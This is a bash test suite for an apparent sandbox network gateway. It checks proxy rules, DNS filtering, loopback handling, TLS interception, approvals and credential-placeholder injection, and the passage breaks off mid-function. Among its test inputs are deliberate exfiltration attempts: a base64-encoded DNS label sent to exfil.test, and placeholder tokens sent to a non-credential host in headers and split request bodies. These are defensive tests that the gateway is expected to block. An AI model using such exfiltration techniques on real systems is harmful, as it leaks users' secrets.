#!/usr/bin/env bash
# t_gateway: the egress gateway of a policy with a network section. Upstreams are servers
# this test starts on 127.0.0.1 (names mapped to them with `resolve`); nothing else is
# contacted, and no real DNS resolver is asked.
#   - the explicit proxy (HTTP_PROXY ...): allowed, denied (403, JSON, X-Paddock-Decision),
#     method and path rules, the default;
#   - transparent capture of a client that ignores the proxy variables (DNS stub, fake
#     address, the name found again), and a Host that names another host;
#   - the DNS stub: answers from the policy only, NXDOMAIN (audited) for the rest, a long
#     random-label exfiltration attempt included;
#   - the host's loopback through the gateway, in any notation, only when a host_loopback
#     rule names it (t_gateway_loopback has the sandbox's own loopback);
#   - CONNECT tunnels to a passthrough host (TLS end to end), refused for others;
#   - no other way out (other addresses, UDP);
#   - many concurrent connections; a slow upstream does not stall the others;
#   - everything in the audit log.
. "$(dirname "$0")/lib.sh"
need_userns

[ -e "$PADDOCK_BUILD/paddock-gateway.so" ] || bail_out "paddock-gateway.so is not built"
command -v curl >/dev/null || skip_all "curl is not installed"

start_upstream HTTP_PORT --log "$T/upstream.log"

# A test CA and a certificate for secure.test, for the passthrough tunnel.
test_certs secure secure.test tls.test
start_upstream TLS_PORT --tls "$T/secure.pem" "$T/secure.key"
cp "$T/ca.pem" "$WS/ca.pem"

cat >"$T/net.yaml" <<EOF
version: 1
network:
  default: deny
  rules:
    - {host: api.test, methods: [GET, HEAD], path: /v1/**, decision: allow}
    - {host: api.test, methods: [POST], path: /v1/items, decision: allow}
    - {host: api.test, methods: [DELETE], decision: deny, reason: "deletes are not for agents"}
    - {host: "*.cdn.test", decision: allow}
    - {host: 127.0.0.1, port: $HTTP_PORT, path: /named/**, decision: allow, host_loopback: true}
    - {host: secure.test, decision: allow}
    - {host: slow.test, decision: allow}
    - {host: tls.test, methods: [GET], path: /v1/**, decision: allow}
    - {host: tls.test, methods: [DELETE], decision: deny, reason: "no deletes over TLS either"}
    - {host: untrusted.test, decision: allow}
  passthrough: [secure.test]
  resolve:
    "api.test:80": "127.0.0.1:$HTTP_PORT"
    "img.cdn.test:80": "127.0.0.1:$HTTP_PORT"
    "slow.test:80": "127.0.0.1:$HTTP_PORT"
    "secure.test:443": "127.0.0.1:$TLS_PORT"
    "tls.test:443": "127.0.0.1:$TLS_PORT"
    "untrusted.test:443": "127.0.0.1:$TLS_PORT"
  upstream_ca: [$T/ca.pem]
EOF

# One sandboxed script runs every client; its output is checked line by line.
cat >"$WS/clients.sh" <<'EOF'
c() {
    o=$(curl -sS --max-time 20 "$@" 2>/dev/null)
    rc=$?
    printf '%s rc=%s\n' "$(printf '%s' "$o" | tr -d '\r\n')" "$rc"
}
echo "== proxy"
c http://api.test/v1/things
c -o /dev/null -w '%{http_code}' http://api.test/v2/things
c -X POST -d '{"a":1}' http://api.test/v1/items
c -o /dev/null -w '%{http_code}' -X POST http://api.test/v1/other
c -i -X DELETE http://api.test/v1/things/1
c http://img.cdn.test/v1/logo
c -o /dev/null -w '%{http_code}' http://cdn.test/
echo "== capture"
c --noproxy '*' http://api.test/v1/captured
c --noproxy '*' -o /dev/null -w '%{http_code}' -X DELETE http://api.test/v1/x
c --noproxy '*' -o /dev/null -w '%{http_code}' -H 'Host: other.test' http://api.test/v1/x
python3 -c '
import urllib.request
print(urllib.request.urlopen("http://api.test/v1/py").status)'
echo "== dns"
getent hosts api.test
getent hosts evil.test; echo "getent rc=$?"
getent hosts aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE.x7f3a9c2e1b0d4f6a8c.exfil.test; echo "exfil rc=$?"
echo "== loopback"
c http://127.0.0.1:PORT/named/ok
c -o /dev/null -w '%{http_code}' http://127.0.0.1:PORT/other
c -o /dev/null -w '%{http_code}' http://0x7f.1:PORT/named/ok
c -o /dev/null -w '%{http_code}' http://2130706433:PORT/named/ok
c -o /dev/null -w '%{http_code}' http://[::ffff:127.0.0.1]:PORT/named/ok
c -o /dev/null -w '%{http_code}' http://localhost:PORT/named/ok
c -o /dev/null -w '%{http_code}' http://0177.0.0.1:PORT/named/ok
echo "== connect"
c --cacert ca.pem https://secure.test/v1/tls
c -o /dev/null -w '%{http_connect}' https://nowhere.test/
python3 -c '
import socket, ssl
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT secure.test:443 HTTP/1.1\r\nHost: secure.test:443\r\n\r\n")
s.recv(4096)
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(s, server_hostname="tls.test"); print("passthrough sni accepted")
except (ssl.SSLError, OSError):
    print("passthrough sni refused")'
echo "== tls"
c https://tls.test/v1/intercepted
c -i -X DELETE https://tls.test/v1/x
c -o /dev/null -w '%{http_code}' https://tls.test/v2/x
c --noproxy '*' https://tls.test/v1/captured
c -i https://untrusted.test/
python3 -c '
import urllib.request
print(urllib.request.urlopen("https://tls.test/v1/py").status)'
if command -v node >/dev/null; then node -e 'fetch("https://tls.test/v1/node").then(r => console.log("node", r.status)).catch(e => console.log("node error", e.cause || e))'; else echo "no node"; fi
python3 -c '
import socket, ssl
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT tls.test:443 HTTP/1.1\r\nHost: tls.test:443\r\n\r\n")
s.recv(4096)
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(s, server_hostname="other.test"); print("sni accepted")
except ssl.SSLError as e:
    print("sni refused")'
echo "== no other way out"
c --noproxy '*' --max-time 3 -o /dev/null http://10.1.2.3/
python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x", ("10.1.2.3", 53)); print("udp sent")
except OSError as e:
    print("udp errno", e.errno)'
echo "== end"
EOF
sed -i "s/PORT/$HTTP_PORT/g" "$WS/clients.sh"
wrun --policy "$T/net.yaml" -- sh ./clients.sh
expect_eq "the script runs to its end" 0 "$RC"
line() { printf '%s\n' "$OUT" | sed -n "/^== $1\$/,/^== /p" | sed -n "$(($2 + 1))p"; }

expect_match "proxy: an allowed GET reaches the upstream" '"path": "/v1/things".* rc=0' "$(line proxy 1)"
expect_eq "proxy: outside the allowed path: the default (403)" "403 rc=0" "$(line proxy 2)"
expect_match "proxy: an allowed POST with its body" '"method": "POST".*"body_len": 7' "$(line proxy 3)"
expect_eq "proxy: POST elsewhere: 403" "403 rc=0" "$(line proxy 4)"
deny=$(line proxy 5)
expect_match "proxy: a denied request: 403" "HTTP/1.1 403 Forbidden" "$deny"
expect_match "... with X-Paddock-Decision: deny" "X-Paddock-Decision: deny" "$deny"
expect_match "... and a JSON body naming the rule and its reason" \
    '"error":"blocked".*"reason":"deletes are not for agents","rule":3' "$deny"
expect_match "proxy: a *. rule covers a subdomain" '"path": "/v1/logo".* rc=0' "$(line proxy 6)"
expect_eq "... not the domain itself" "403 rc=0" "$(line proxy 7)"

expect_match "capture: a client ignoring the proxy reaches the upstream" \
    '"path": "/v1/captured".* rc=0' "$(line capture 1)"
expect_eq "capture: a denied method: 403" "403 rc=0" "$(line capture 2)"
expect_eq "capture: a Host naming another host: 403" "403 rc=0" "$(line capture 3)"
expect_eq "python urllib through the proxy variables" "200" "$(line capture 4)"

expect_match "dns: an allowed name gets a fake address" "^198\.1[89]\.[0-9.]+ +api\.test$" "$(line dns 1)"
expect_eq "dns: a name no rule allows: NXDOMAIN" "getent rc=2" "$(line dns 2)"
expect_eq "dns: an exfiltration-shaped name: NXDOMAIN" "exfil rc=2" "$(line dns 3)"

expect_match "loopback: a host_loopback rule naming 127.0.0.1 and the port lets it through" \
    '"path": "/named/ok".* rc=0' "$(line loopback 1)"
expect_eq "loopback: outside that rule: 403" "403 rc=0" "$(line loopback 2)"
expect_eq "loopback: 0x7f.1 is 127.0.0.1 (same rule)" "200 rc=0" "$(line loopback 3)"
expect_eq "loopback: 2130706433 is 127.0.0.1" "200 rc=0" "$(line loopback 4)"
expect_eq "loopback: ::ffff:127.0.0.1 is not the host the rule names: 403" "403 rc=0" \
    "$(line loopback 5)"
expect_eq "loopback: localhost is a name no rule allows: 403" "403 rc=0" "$(line loopback 6)"
expect_eq "loopback: 0177.0.0.1 (octal) is 127.0.0.1" "200 rc=0" "$(line loopback 7)"

expect_match "connect: a passthrough host is tunnelled, TLS end to end" '"path": "/v1/tls".* rc=0' \
    "$(line connect 1)"
expect_match "connect: a host no rule allows is refused (403)" "^403 rc=" "$(line connect 2)"
expect_eq "connect: a passthrough tunnel whose ClientHello names another host ends" \
    "passthrough sni refused" "$(line connect 3)"

expect_match "tls: an intercepted request that the rules allow" '"path": "/v1/intercepted".* rc=0' \
    "$(line tls 1)"
expect_match "tls: a denied one inside TLS: 403 with the reason" \
    'HTTP/1.1 403 Forbidden.*X-Paddock-Decision: deny.*no deletes over TLS either' "$(line tls 2)"
expect_eq "tls: outside the path: 403" "403 rc=0" "$(line tls 3)"
expect_match "tls: a captured TLS connection is intercepted too" '"path": "/v1/captured".* rc=0' \
    "$(line tls 4)"
expect_match "tls: an upstream certificate that does not verify: 502, saying why" \
    'HTTP/1.1 502 Bad Gateway.*certificate of untrusted.test is not trusted' "$(line tls 5)"
expect_eq "tls: python trusts the gateway (REQUESTS_CA_BUNDLE, SSL_CERT_FILE)" "200" "$(line tls 6)"
if command -v node >/dev/null; then
    expect_eq "tls: node fetch trusts it (NODE_EXTRA_CA_CERTS)" "node 200" "$(line tls 7)"
fi
expect_eq "tls: an SNI naming another host than the CONNECT is refused" "sni refused" \
    "$(line tls 8)"

expect_match "no route to any other address" "rc=7" "$(line 'no other way out' 1)"
expect_eq "no UDP out" "udp errno 101" "$(line 'no other way out' 2)"

pdk audit --json
events=$(printf '%s\n' "$OUT")
count() {
    printf '%s\n' "$events" | "$PYTHON" -c '
import json, sys
kind, key, value = sys.argv[1], sys.argv[2], sys.argv[3]
n = 0
for l in sys.stdin:
    if not l.strip(): continue
    e = json.loads(l)
    if e["kind"] == kind and str(e["data"].get(key)) == value: n += 1
print(n)' "$@"
}
expect_ne "audit: allowed requests (net.request allow)" 0 "$(count net.request decision allow)"
expect_ne "audit: denied requests (net.request deny)" 0 "$(count net.request decision deny)"
expect_ne "audit: responses with their status" 0 "$(count net.response status 200)"
expect_ne "audit: the process behind a request (curl)" 0 "$(count net.request comm curl)"
expect_ne "... (python3)" 0 "$(count net.request comm python3)"
expect_eq "audit: the captured DELETE is there, denied" 1 \
    "$(printf '%s\n' "$events" | grep -c '"method":"DELETE".*"via":"capture"' )"
expect_ne "audit: blocked DNS queries" 0 "$(count dns.blocked name evil.test)"
expect_match "audit: the exfiltration attempt is recorded" '"kind":"dns.blocked".*exfil\.test' "$events"
expect_ne "audit: the tunnel" 0 "$(count net.connect host secure.test)"
expect_ne "audit: intercepted requests, with their method and path" 0 \
    "$(count net.request path /v1/intercepted)"
expect_ne "audit: the upstream's bad certificate" 0 "$(count net.upstream_error host untrusted.test)"

# paddock ca --pem prints the CA the sandboxes trust; its key stays in the state dir.
pdk ca --pem
expect_match "paddock ca --pem prints the CA certificate" "^-----BEGIN CERTIFICATE-----" "$OUT"
printf '%s\n' "$OUT" >"$T/paddock-ca.pem"
expect_match "... a CA certificate (CA:TRUE, for signing certificates only)" \
    "CA:TRUE.*Certificate Sign" \
    "$(openssl x509 -in "$T/paddock-ca.pem" -noout -text | tr '\n' ' ')"
expect_eq "the CA key is private to its owner" 600 "$(stat -c %a "$STATE/ca/ca.key")"
pdk audit verify
expect_eq "the log verifies" 0 "$RC"
expect_eq "the upstream never saw a denied request" 0 \
    "$(grep -c '"method": "DELETE"' "$T/upstream.log")"

# Many processes at once, and a slow upstream that does not stall the others: /slow answers
# only once the 40 others were answered and the script asks /slow/release.
cat >"$WS/many.sh" <<'EOF'
curl -sS --max-time 60 -o /dev/null -w 'slow %{http_code}\n' http://slow.test/slow &
slow=$!
pids=""
for i in $(seq 40); do
    curl -sS --max-time 20 -o /dev/null -w '%{http_code}\n' "http://api.test/v1/n$i" &
    pids="$pids $!"
done
wait $pids
curl -sS --max-time 20 -o /dev/null http://slow.test/slow/release
wait $slow
EOF
wrun --policy "$T/net.yaml" -- sh ./many.sh
expect_eq "40 concurrent clients: all answered 200" 40 "$(printf '%s\n' "$OUT" | grep -c '^200$')"
expect_eq "... and the slow one too, last" "slow 200" "$(printf '%s\n' "$OUT" | tail -n 1)"

# Keep-alive and pipelining: several requests on one connection, in order.
cat >"$WS/pipe.py" <<'EOF'
import socket
s = socket.create_connection(("127.0.0.1", 3128))
req = b"".join(b"GET http://api.test/v1/p%d HTTP/1.1\r\nHost: api.test\r\n\r\n" % i for i in range(3))
s.sendall(req)
data = b""
while b"/v1/p2" not in data:
    chunk = s.recv(65536)
    if not chunk: break
    data += chunk
print(data.count(b"HTTP/1.1 200"), [p for p in (b"/v1/p0", b"/v1/p1", b"/v1/p2") if p in data] == [b"/v1/p0", b"/v1/p1", b"/v1/p2"], data.index(b"/v1/p0") < data.index(b"/v1/p1") < data.index(b"/v1/p2"))
EOF
wrun --policy "$T/net.yaml" -- python3 pipe.py
expect_eq "pipelined requests on one connection: three responses, in order" "3 True True" "$OUT"

# Malformed requests: answered with the right status, and the gateway keeps serving.
cat >"$WS/bad.py" <<'EOF'
import socket
def ask(raw):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(raw)
    data = s.recv(4096)
    s.close()
    return data.split(b"\r\n")[0].decode()
print(ask(b"GET http://api.test/v1/a HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n"))
print(ask(b"GET http://api.test/v1/a HTTP/1.1\r\nHost: api.test\r\nX-A: 1\r\n folded\r\n\r\n"))
print(ask(b"GET http://api.test/v1/a HTTP/1.1\r\nHost: api.test\r\n" + b"X-Long: " + b"a" * 70000 + b"\r\n\r\n"))
print(ask(b"\x16\x03\x01\x02\x00garbage\r\n\r\n"))
print(ask(b"GET http://api.test/v1/after HTTP/1.1\r\nHost: api.test\r\n\r\n"))
print(ask(b"POST http://api.test/v1/items HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nabc"))
EOF
wrun --policy "$T/net.yaml" -- python3 bad.py
expect_eq "CL with TE: 400" "HTTP/1.1 400 Bad Request" "$(printf '%s\n' "$OUT" | sed -n 1p)"
expect_eq "obs-fold: 400" "HTTP/1.1 400 Bad Request" "$(printf '%s\n' "$OUT" | sed -n 2p)"
expect_eq "an oversized head: 431" "HTTP/1.1 431 Request Header Fields Too Large" \
    "$(printf '%s\n' "$OUT" | sed -n 3p)"
expect_match "TLS garbage to the proxy: 4xx" "^HTTP/1.1 4[0-9][0-9] " "$(printf '%s\n' "$OUT" | sed -n 4p)"
expect_eq "... and the next request is served" "HTTP/1.1 200 OK" "$(printf '%s\n' "$OUT" | sed -n 5p)"
expect_eq "a repeated Content-Length: 400" "HTTP/1.1 400 Bad Request" "$(printf '%s\n' "$OUT" | sed -n 6p)"

# Without a network section there is no gateway: nothing listens, nothing resolves.
wrun -- sh -c 'curl -sS --max-time 3 http://api.test/ ; echo "rc=$?"'
expect_match "no network section: no proxy, no way out" "rc=(5|6|7)" "$OUT"

# A request a rule asks for is held until a human answers from another process.
cat >"$T/ask.yaml" <<EOF2
version: 1
network:
  rules:
    - {host: api.test, methods: [GET], decision: allow}
    - {host: api.test, methods: [POST, PUT], decision: ask, reason: "writes need a human"}
    - {host: tls.test, methods: [POST], decision: ask}
  resolve:
    "api.test:80": "127.0.0.1:$HTTP_PORT"
    "tls.test:443": "127.0.0.1:$TLS_PORT"
  upstream_ca: [$T/ca.pem]
approvals: {timeout: 20}
EOF2
cat >"$WS/ask.sh" <<'EOF2'
c() {
    o=$(curl -sS --max-time 30 "$@" 2>/dev/null)
    rc=$?
    printf '%s rc=%s\n' "$(printf '%s' "$o" | tr -d '\r\n')" "$rc"
}
c -X POST -d 'name=new&token=t0psecret' 'http://api.test/v1/items?key=k3y&page=2'
c -X PUT -d 'x' http://api.test/v1/items/1
c -X POST -d 'over tls' https://tls.test/v1/items
EOF2
start_bg ask.fifo --workspace "$WS" --policy "$T/ask.yaml" -- sh ./ask.sh
wait_approval POST
expect_ne "an asked request waits as an approval request" "" "$ID"
pdk approvals --json
req=$(printf '%s\n' "$OUT" | "$PYTHON" -c '
import json, sys
for l in sys.stdin:
    if l.strip():
        j = json.loads(l)
        if j["id"] == sys.argv[1]: print(json.dumps(j["request"], sort_keys=True))' "$ID")
expect_match "... showing method and URL with the query values redacted" \
    '"method": "POST".*"url": "http://api.test/v1/items\?key=\.\.\.&page=\.\.\."' "$req"
expect_match "... the header names" '"headers": \[.*"Content-Type"' "$req"
expect_match "... and a preview of the body" '"body_preview": "name=new&token=t0psecret"' "$req"
pdk approvals
expect_match "paddock approvals shows it" "what:  POST http://api.test/v1/items" "$OUT"
pdk approve "$ID"
read_bg_line
expect_match "approved: the request goes through, its body intact" '"method": "POST".*"body_len": 24' \
    "$BG_LINE"
wait_approval PUT
pdk deny "$ID" --reason "not this one"
read_bg_line
expect_match "denied: 403 naming who and why" '"reason":"denied by .*: not this one' "$BG_LINE"
wait_approval POST
pdk approve "$ID"
read_bg_line
expect_match "inside intercepted TLS too" '"method": "POST".*"path": "/v1/items"' "$BG_LINE"
wait "$BG_PID" 2>/dev/null
expect_eq "the upstream saw the approved requests only" "2 0" \
    "$(grep -c '"method": "POST"' "$T/upstream.log") $(grep -c '"method": "PUT"' "$T/upstream.log")"
pdk audit --json
expect_ne "approvals asked and answered are in the audit log" 0 \
    "$(printf '%s\n' "$OUT" | grep -c '"state":"denied".*"kind":"approval.answered"')"

# No answer in time: on_timeout (deny) applies.
sed 's/timeout: 20/timeout: 1/' "$T/ask.yaml" >"$T/ask-short.yaml"
wrun --policy "$T/ask-short.yaml" -- sh -c 'curl -sS --max-time 20 -X PUT -d x http://api.test/v1/t'
expect_match "no answer in time: denied (approvals.on_timeout)" "no answer to approval .* in time" "$OUT"

# --always: the rest of a named session does not ask again for that rule.
start_bg always.fifo --workspace "$WS" --session gw-always --policy "$T/ask.yaml" -- \
    sh -c 'for i in 1 2 3; do curl -sS --max-time 30 -o /dev/null -w "%{http_code}\n" -X PUT -d x http://api.test/v1/a$i; done'
wait_approval PUT
pdk approve "$ID" --always
read_bg_line
expect_eq "--always: the first request goes through" 200 "$BG_LINE"
read_bg_line
expect_eq "... and the next ones without asking" 200 "$BG_LINE"
read_bg_line
expect_eq "... all of them" 200 "$BG_LINE"
wait "$BG_PID" 2>/dev/null

# An upgrade (WebSocket) passes through after the policy check; 100-continue and chunked
# request bodies are relayed as they come.
head -c 3000000 /dev/zero | tr '\0' 'z' >"$WS/big.txt"
cat >"$WS/upgrade.py" <<'EOF2'
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"GET http://api.test/v1/ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\n"
          b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(4096)
print(head.split(b"\r\n")[0].decode())
s.sendall(b"ping over the upgraded connection")
got = b""
while len(got) < 33:
    got += s.recv(4096)
print(got.decode())
EOF2
wrun --policy "$T/net.yaml" -- python3 upgrade.py
expect_eq "an upgrade: 101 through the proxy" "HTTP/1.1 101 Switching Protocols" \
    "$(printf '%s\n' "$OUT" | sed -n 1p)"
expect_eq "... then bytes both ways" "ping over the upgraded connection" \
    "$(printf '%s\n' "$OUT" | sed -n 2p)"
wrun --policy "$T/net.yaml" -- sh -c '
curl -sS --max-time 20 -H "Expect: 100-continue" --data-binary @big.txt http://api.test/v1/items
curl -sS --max-time 20 -H "Transfer-Encoding: chunked" --data-binary @big.txt http://api.test/v1/items'
expect_match "Expect: 100-continue with a 3 MB body" '"body_len": 3000000' "$(printf '%s\n' "$OUT" | sed -n 1p)"
expect_match "a chunked request body" '"body_len": 3000000' "$(printf '%s\n' "$OUT" | sed -n 2p)"

# A name that resolves to loopback on the host (localhost, from its hosts file) is refused
# even by a rule for any host: the check is on the address connected to (through the
# proxy: a client that honours NO_PROXY goes to the sandbox's own localhost instead).
cat >"$T/any.yaml" <<'EOF2'
version: 1
network:
  rules:
    - {host: "*", decision: allow}
EOF2
wrun --policy "$T/any.yaml" -- env -u NO_PROXY -u no_proxy curl -sS --max-time 20 "http://localhost:$HTTP_PORT/v1/x"
expect_match "a name that resolves to 127.0.0.1 is refused unless a host_loopback rule names it" \
    '"reason":"localhost: 127.0.0.1 is a loopback address of the host, which only a rule with host_loopback: true reaches' "$OUT"

# git over HTTPS: clone and push through the intercepting gateway to git http-backend
# behind a local TLS server.
if command -v git >/dev/null; then
    mkdir -p "$T/git"
    git init -q --bare "$T/git/repo.git"
    git -C "$T/git/repo.git" config http.receivepack true
    git -C "$T/git/repo.git" symbolic-ref HEAD refs/heads/main
    git init -q "$T/seed"
    git -C "$T/seed" -c user.name=t -c user.email=t@paddock.invalid commit -q --allow-empty -m seed
    git -C "$T/seed" push -q "$T/git/repo.git" HEAD:refs/heads/main
    start_upstream GIT_PORT --tls "$T/secure.pem" "$T/secure.key" --git "$T/git"
    cat >"$T/git.yaml" <<EOF2
version: 1
network:
  rules:
    - {host: tls.test, methods: [GET, POST], path: /git/**, decision: allow}
  resolve: {"tls.test:443": "127.0.0.1:$GIT_PORT"}
  upstream_ca: [$T/ca.pem]
env:
  set: {GIT_CONFIG_NOSYSTEM: "1", GIT_AUTHOR_NAME: t, GIT_AUTHOR_EMAIL: t@paddock.invalid,
        GIT_COMMITTER_NAME: t, GIT_COMMITTER_EMAIL: t@paddock.invalid}
EOF2
    wrun --policy "$T/git.yaml" -- sh -c '
cd /tmp && git clone -q https://tls.test/git/repo.git clone && cd clone &&
git commit -q --allow-empty -m "from the sandbox" && git push -q origin HEAD:main && echo pushed'
    expect_eq "git clone and push over HTTPS through the gateway" "0 pushed" "$RC $OUT"
    expect_eq "... the commit reached the upstream repository" "from the sandbox" \
        "$(git -C "$T/git/repo.git" log -1 --format=%s main 2>/dev/null)"
fi

# A static credential: the sandbox holds a placeholder; the gateway puts the real value on
# requests to the credential's hosts, and refuses a request that carries the placeholder
# anywhere else. The value is nowhere in the sandbox, its output, or the audit log.
real="real-token-$RANDOM$RANDOM$RANDOM"
set_secret api_token "$real"
cat >"$T/cred.yaml" <<EOF2
version: 1
network:
  rules:
    - {host: api.test, decision: allow}
    - {host: "*.cdn.test", decision: allow}
  resolve:
    "api.test:80": "127.0.0.1:$HTTP_PORT"
    "img.cdn.test:80": "127.0.0.1:$HTTP_PORT"
credentials:
  - name: api
    provider: static
    value: {secret: api_token}
    hosts: [api.test]
    inject: {header: Authorization, value: "Bearer {token}"}
    replace_in_headers: [X-Api-Key]
    placeholder: {env: API_TOKEN, file: ~/.config/api/token}
    allow_plain_http: true
EOF2
: >"$T/upstream.log"
cat >"$WS/cred.sh" <<'EOF2'
echo "placeholder $(printf %s "$API_TOKEN" | cut -c1-7) file $([ "$(cat ~/.config/api/token)" = "$API_TOKEN" ] && echo same)"
curl -sS --max-time 20 -o /dev/null -w '%{http_code}\n' http://api.test/v1/injected
curl -sS --max-time 20 -o /dev/null -w '%{http_code}\n' -H "X-Api-Key: $API_TOKEN" http://api.test/v1/replaced
curl -sS --max-time 20 -w '\n' -H "X-Api-Key: $API_TOKEN" http://img.cdn.test/v1/leak
env; cat /proc/self/environ | tr '\0' '\n'
EOF2
wrun --policy "$T/cred.yaml" -- sh ./cred.sh
expect_eq "the sandbox holds a placeholder, in its environment and in the file the policy names" \
    "placeholder pdk-ph- file same" "$(printf '%s\n' "$OUT" | sed -n 1p)"
expect_eq "... whose source in the state dir is gone after the run" "" "$(ls -A "$STATE/placeholders" 2>/dev/null)"
expect_eq "a request to the credential's host goes out" 200 "$(printf '%s\n' "$OUT" | sed -n 2p)"
expect_match "... with the real value injected" \
    "\"path\": \"/v1/injected\".*\"Authorization\": \"Bearer $real\"" "$(cat "$T/upstream.log")"
expect_match "the placeholder in a header is replaced by the value" \
    "\"path\": \"/v1/replaced\".*\"X-Api-Key\": \"$real\"" "$(cat "$T/upstream.log")"
expect_match "the placeholder toward another host: refused" \
    '"error":"blocked".*placeholder of credential api' "$(printf '%s\n' "$OUT" | sed -n 4p)"
expect_eq "... and it never reached that host" 0 "$(grep -c '/v1/leak' "$T/upstream.log")"
expect_no_match "the real value is nowhere in the sandbox's environment or output" "$real" "$OUT$ERR"
pdk audit --json
expect_match "the attempt is recorded" '"kind":"credential.exfiltration"' "$OUT"
expect_match "... and the uses, with the requests they went on" \
    '"credentials":\["api"\].*"kind":"net.request"' "$OUT"
expect_no_match "the real value is nowhere in the audit log" "$real" "$OUT"
expect_eq "... nor in the store's file" 0 "$(grep -c "$real" "$STATE/paddock.db" "$STATE"/audit-spool/* 2>/dev/null | awk -F: '{s+=$NF} END {print s+0}')"
pdk secret list --json
expect_ne "the vault records the credential's use" "None" "$(json_get "$OUT" 'j["used_ns"]')"

# In a body toward another host too, however it is cut: the body is scanned as it streams
# (its chunked framing taken off), and the slice that would complete the placeholder is
# never sent; the request is refused and recorded.
cat >"$WS/bodyleak.py" <<'EOF2'
import os, socket, time
tok = os.environ["API_TOKEN"].encode()
def send(path, parts, chunked):
    s = socket.create_connection(("127.0.0.1", 3128))
    head = b"POST http://img.cdn.test%s HTTP/1.1\r\nHost: img.cdn.test\r\n" % path.encode()
    body = b"".join(parts)
    head += b"Transfer-Encoding: chunked\r\n\r\n" if chunked else b"Content-Length: %d\r\n\r\n" % len(body)
    s.sendall(head)
    for p in parts:
        time.sleep(0.05)  # each its own slice at the gateway
        try:
            s.sendall(b"%x\r\n%s\r\n" % (len(p), p) if chunked else p)
        except OSError:
            break
    if chunked:
        try: s.sendall(b"0\r\n\r\n")
        except OSError: pass
    s.settimeout(20)
    answer = b""
    try:
        while chunk := s.recv(65536):
            answer += chunk
    except OSError:
        pass
    print(path, answer.split(b" ")[1].decode() if answer else "none")
send("/v1/body-plain", [b"x=" + tok], False)
send("/v1/body-split", [b"x=" + tok[:9], tok[9:30], tok[30:]], True)
send("/v1/body-late", [b"y" * 200000, b"x=" + tok[:20], tok[20:]], False)
send("/v1/body-clean", [b"nothing to see"], True)
EOF2
: >"$T/upstream.log"
wrun --policy "$T/cred.yaml" -- python3 bodyleak.py
expect_eq "a placeholder in a body toward another host: refused (403), whole, split across chunks, or late in a large body" \
    "/v1/body-plain 403|/v1/body-split 403|/v1/body-late 403|/v1/body-clean 200" "$(printf '%s' "$OUT" | paste -sd'|')"
expect_eq "... the placeholder never reached that host whole" 0 \
    "$(grep -c 'pdk-ph-[0-9a-f]\{48\}' "$T/upstream.log")"
expect_eq "... and none of those requests reached it complete" "" \
    "$("$PYTHON" -c '
import json, sys
for h in map(json.loads, open(sys.argv[1])):
    if h["path"] == "/v1/body-plain" and h["body_len"] >= 57 or h["path"] == "/v1/body-late" and h["body_len"] >= 200057:
        print(h["path"])' "$T/upstream.log")"
pdk audit --json
expect_match "... each recorded as an exfiltration attempt in a body" \
    '"found_in":"body".*"found_in":"body".*"found_in":"body"' "$(printf '%s' "$OUT" | tr '\n' ' ')"

# A placeholder file inside the workspace would be a change of the session: refused.
sed "s|file: ~/.config/api/token|file: $WS/token|" "$T/cred.yaml" >"$T/cred-ws.yaml"
wrun --policy "$T/cred-ws.yaml" -- true
expect_eq "a placeholder file inside the workspace: paddock run fails (125)" 125 "$RC"
expect_match "... saying where to put it instead" "placeholder.file $WS/token is inside the workspace \(put it outside, e.g. under ~/\)" "$ERR"
expect_eq "... and nothing is left in the workspace" "" "$(ls "$WS" | grep -x token)"

# replace_in_body: a credential that opts in has its placeholder replaced in request bodies
# too (Content-Length and chunked bodies, Expect: 100-continue), sent upstream with the new
# length; one that does not leaves bodies as they are; a body over 1 MiB is refused.
cat >"$T/body.yaml" <<EOF2
version: 1
network:
  rules:
    - {host: api.test, decision: allow}
    - {host: form.test, decision: allow}
  resolve:
    "api.test:80": "127.0.0.1:$HTTP_PORT"
    "form.test:80": "127.0.0.1:$HTTP_PORT"
credentials:
  - name: api
    provider: static
    value: {secret: api_token}
    hosts: [api.test]
    placeholder: {env: API_TOKEN}
    replace_in_headers: [X-Api-Key]
    allow_plain_http: true
  - name: form
    provider: static
    value: {secret: api_token}
    hosts: [form.test]
    placeholder: {env: FORM_TOKEN}
    replace_in_body: true
    allow_plain_http: true
EOF2
: >"$T/upstream.log"
cat >"$WS/body.sh" <<'EOF2'
u() { curl -sS --max-time 20 -o /dev/null -w '%{http_code}\n' "$@"; }
u --data-binary "token=$FORM_TOKEN&again=$FORM_TOKEN" http://form.test/v1/form
printf '{"token":"%s"}' "$FORM_TOKEN" | u -H 'Transfer-Encoding: chunked' --data-binary @- http://form.test/v1/chunked
u -H 'Expect: 100-continue' --data-binary "t=$FORM_TOKEN" http://form.test/v1/expect
u --data-binary "token=$API_TOKEN" http://api.test/v1/not-opted-in
u --data-binary "no placeholder here" http://form.test/v1/plain
head -c 1100000 /dev/zero | u -H 'Content-Type: application/octet-stream' --data-binary @- http://form.test/v1/big
head -c 1100000 /dev/zero | u -H 'Transfer-Encoding: chunked' --data-binary @- http://form.test/v1/bigchunked
EOF2
wrun --policy "$T/body.yaml" -- sh ./body.sh
expect_eq "replace_in_body: every request answered as expected" "200 200 200 200 200 413 413" \
    "$(printf '%s' "$OUT" | tr '\n' ' ' | sed 's/ $//')"
body_of() { # body_of PATH: "BODY_LEN BODY" of that request at the upstream
    "$PYTHON" -c '
import json, sys
for h in map(json.loads, open(sys.argv[1])):
    if h["path"] == sys.argv[2]:
